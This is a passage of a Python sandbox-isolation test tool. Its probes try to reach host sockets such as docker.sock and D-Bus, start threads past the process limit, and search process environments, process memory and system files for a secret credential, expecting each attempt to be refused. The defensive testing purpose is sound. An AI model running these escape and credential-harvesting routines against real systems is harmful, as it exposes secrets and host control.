    os.close(master)
    os.close(slave)
    if result == -1 and code == errno.EPERM:
        raise RefusedError("EPERM")
    return f"{result}, {code}"


@probe("K-5")
def sockets_and_descriptors(found: Probe) -> None:
    def own() -> str:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as one:
            one.bind(f"\0verify-{os.getpid()}")
            one.listen(1)
            return unix(f"\0verify-{os.getpid()}")

    found.control("an abstract socket of its own", own)
    found.attack("an abstract socket of the host", lambda: unix("\0" + CONFIG["abstract"]))
    for path in (
        "/run/dbus/system_bus_socket",
        "/var/run/docker.sock",
        "/run/podman/podman.sock",
        "/tmp/.X11-unix/X0",
    ):
        found.attack(path, unix, path)
    found.attack("descriptors that nobody gave it", inherited)


def inherited() -> str:
    extra = []
    for one in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{one}")
        except OSError:
            continue  # that of the listing
        if int(one) > 2 and not target.startswith("/proc/"):
            extra.append(f"{one}: {target}")
    if not extra:
        raise RefusedError("none")
    return ", ".join(extra)


@probe("K-6")
def process_bomb(found: Probe) -> None:
    limit = CONFIG["pids"]
    if not limit:
        found.missing = "the configuration sets no limit of processes"
        return
    threading.stack_size(65536)
    held = threading.Event()
    threads: list[threading.Thread] = []

    def one() -> None:
        thread = threading.Thread(target=held.wait, args=(30,), daemon=True)
        thread.start()
        threads.append(thread)

    def bomb() -> str:
        try:
            while len(threads) < limit + 8:
                one()
        except RuntimeError:  # "can't start new thread"
            raise RefusedError(f"stopped after {len(threads)}") from None
        return f"{len(threads)} threads, and the limit is {limit}"

    found.control("a thread", one)
    found.attack(f"more than {limit} threads", bomb)
    held.set()
    for thread in threads:
        thread.join(5)


@probe("SECRET-1")
def secrets_in_reach(found: Probe) -> None:
    found.control(
        "the credential is used: the origin takes the request",
        lambda: fetch(name("bound"), "/control-SECRET-1"),
    )
    found.control(
        "the placeholder is in the environment",
        lambda: searched(environments(), CONFIG["placeholder"].encode()),
    )
    found.attack("its value in an environment", lambda: searched(environments(), None))
    found.attack("its value in the memory of a process", lambda: searched(memories(), None))
    found.attack("its value in a file", lambda: searched(files(), None))


def searched(places: Iterator[tuple[str, bytes]], exact: bytes | None) -> str:
    for place, data in places:
        if exact in data if exact is not None else SECRET.search(data):
            return place
    raise RefusedError("not found")


def environments() -> Iterator[tuple[str, bytes]]:
    for pid in pids():
        try:
            with open(f"/proc/{pid}/environ", "rb") as file:
                yield f"environment of {pid}", file.read()
        except OSError:
            continue


def memories() -> Iterator[tuple[str, bytes]]:
    for pid in pids():
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
                for line in maps:
                    first, _, last = line.split(" ", 1)[0].partition("-")
                    size = int(last, 16) - int(first, 16)
                    if " rw" not in line or size > 64 << 20:
                        continue
                    memory.seek(int(first, 16))
                    yield f"memory of {pid}", memory.read(size)
        except (OSError, ValueError, OverflowError):
            continue


def files() -> Iterator[tuple[str, bytes]]:
    for top in (CONFIG["workspace"], os.path.expanduser("~"), "/run", "/etc", "/tmp"):
        for directory, names, found in os.walk(top):
            if directory.count("/") > 8:
                names.clear()
            for one in found:
                path = f"{directory}/{one}"
                try:
                    if stat.S_ISREG(os.lstat(path).st_mode):
                        with open(path, "rb") as file:
                            yield path, file.read(1 << 16)
                except OSError:
                    continue


@probe("AUDIT-1")
def written_down(found: Probe) -> None:
    found.control("a request that is allowed", lambda: fetch(name("bound"), "/control-AUDIT-1"))
    _tried("one that is refused", lambda: fetch(name("paths"), "/refused-AUDIT-1"))


if CONFIG:
    signal.alarm(60)
    main()
